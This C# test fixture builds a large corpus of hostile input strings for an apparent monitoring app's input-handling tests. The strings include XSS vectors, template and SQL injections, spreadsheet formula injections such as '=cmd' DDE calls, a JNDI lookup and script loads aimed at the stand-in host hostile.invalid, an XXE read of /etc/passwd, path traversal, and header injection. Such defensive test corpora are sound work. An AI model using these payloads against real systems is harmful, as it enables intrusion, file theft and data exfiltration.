namespace ResilienceMonitor.App.Tests.Hostile;

/// <summary>Texts that would run, become a formula, break a file or hide what stands beside them: each attack behind each disguise, the same every time.</summary>
internal static class HostileTexts
{
    /// <summary>Stands in every text, so that one that went astray is found.</summary>
    public const string Mark = "hx7f3c";

    /// <summary>Whom they call; nobody has this address.</summary>
    public const string Elsewhere = "hostile.invalid";

    // 🞄 is the mark with the number of the attack.
    private static readonly string[] Attacks =
    [
        // Scripts and what starts one.
        "<script>alert('🞄')</script>", "<script src=//hostile.invalid/🞄.js></script>", "<ScRiPt>window.name='🞄'</sCrIpT>", "<script/x>alert`🞄`</script >", "<scr<script>ipt>alert('🞄')</script>",
        "<img src=x onerror=alert('🞄')>", "<img src=//hostile.invalid/🞄.png>", "<svg onload=alert('🞄')>", "<svg><script href=//hostile.invalid/🞄></script></svg>", "<svg><animate onbegin=alert('🞄') attributeName=x></svg>",
        "<svg><foreignObject><iframe src=//hostile.invalid/🞄></foreignObject></svg>", "<body onpageshow=alert('🞄')>", "<details open ontoggle=alert('🞄')>", "<input autofocus onfocus=alert('🞄')>", "<video><source onerror=alert('🞄')></video>",
        "<iframe srcdoc='<script>alert(\"🞄\")</script>'></iframe>", "<object data=//hostile.invalid/🞄></object>", "<embed src=//hostile.invalid/🞄>", "<base href=//hostile.invalid/🞄/>", "<meta http-equiv=refresh content='0;url=//hostile.invalid/🞄'>",
        "<link rel=stylesheet href=//hostile.invalid/🞄.css>", "<style>@import'//hostile.invalid/🞄.css'</style>", "<form action=//hostile.invalid/🞄><button autofocus>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert('🞄')>", "<template shadowrootmode=open><slot onslotchange=alert('🞄')></template>",
        "x onmouseover=alert('🞄') x=", "x' autofocus onfocus='alert(`🞄`)", "x\" autofocus onfocus=\"alert('🞄')", "`onfocus=alert('🞄') autofocus", "style=background:url(//hostile.invalid/🞄)",
        "javascript:alert('🞄')", "java\tscript:alert('🞄')", "JaVaScRiPt&colon;alert('🞄')", "data:text/html,<script>alert('🞄')</script>", "vbscript:msgbox(\"🞄\")", "//hostile.invalid/🞄", "https:\\\\hostile.invalid\\🞄", "[x](javascript:alert('🞄'))", "![x](//hostile.invalid/🞄.png)",

        // Templates, expressions, queries.
        "{{constructor.constructor('alert(\"🞄\")')()}}", "${alert('🞄')}", "#{7*7}🞄", "<%= 7*7 %>🞄", "@(7*7)🞄", "@{ throw null; }🞄", "{0}{1}{99}🞄", "%s%n%x🞄", "${jndi:ldap://hostile.invalid/🞄}", "';DROP TABLE services;--🞄", "' OR '1'='1🞄", "\"; DELETE FROM bodies WHERE '🞄'='", "%_🞄", "\\'; --🞄",

        // Cells of tables.
        "=1+1&\"🞄\"", "+1+1🞄", "-1+1🞄", "@SUM(1+1)🞄", "=cmd|' /C calc'!A0🞄", "=HYPERLINK(\"//hostile.invalid/🞄\",\"x\")", "=WEBSERVICE(\"//hostile.invalid/🞄\")", "DDE(\"cmd\";\"/C calc\";\"🞄\")", "＝1+1🞄", "＋1🞄", "－1🞄", "＠SUM(1)🞄", "'=1+1🞄", "x;=1+1;🞄", "x,=1+1,🞄", "x\n=1+1🞄", "a\"b\"\"c;🞄",

        // Files and what reads them.
        "]]>🞄", "<![CDATA[🞄]]>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;🞄", "&lt;script&gt;🞄&#x3c;", "&🞄;", "<?xml version='1.0'?>🞄", "<xi:include href='file:///🞄'/>", "</w:t></w:p>🞄", "{ INCLUDETEXT \"//hostile.invalid/🞄\" }", "</title></textarea></script>🞄", "<!--🞄", "--!>🞄", "../../../etc/🞄", "..\\..\\🞄", "C:\\🞄", "file:///🞄", "CON.🞄", "x\u0000y🞄",

        // Letters that hide or turn.
        "\u202Egnp.🞄", "\u2066🞄\u2069\u2067", "\u200B🞄\u200D\u200C", "e\u0301\u0338\u0489🞄", "\uFEFF🞄\uFEFF", "\u2028🞄\u2029", "\u001B[31m🞄\u001B[0m", "x\r\nSet-Cookie: a=🞄", "\u0001\u0008\u007F🞄", "\u0085\u00A0🞄", "\uFFFE\uFFFF🞄", "\U000E0041🞄", "👩‍👩‍👧‍👦🞄", "العربية 🞄",
    ];

    private static readonly string[] Disguises = ["", " ", "\t", "\r\n", "\"", "'", "\">", "'>", "</script>", "</textarea>", "</title><p>", "-->", "]]>", "\u202E", "\u200B", "\uFEFF", "\\", "=", "＝", "&#61;"];

    /// <summary>More than two thousand, each another.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Attacks.SelectMany((attack, a) => Disguises.Select((disguise, d) => disguise + attack.Replace("🞄", $"{Mark}{a}x{d}", StringComparison.Ordinal))),
        .. new[] { "x", "<b>", "\u0301", "\n", "Wort ", "👩‍👧" }.Select((piece, p) => string.Concat(Enumerable.Repeat(piece, 3_900 / piece.Length)) + $"{Mark}long{p}"),
    ];

    /// <summary>Those that can be kept: without NUL.</summary>
    public static IReadOnlyList<string> Kept { get; } = [.. All.Where(t => !t.Contains('\0', StringComparison.Ordinal))];

    /// <summary>What no text of a document can be: halves of letters, as a program may write them in JSON.</summary>
    public static IReadOnlyList<string> Halves { get; } = ["\\ud800", "\\udc00", "x\\ud83d", "\\udc00\\ud800", $"{Mark}\\udfff"];
}
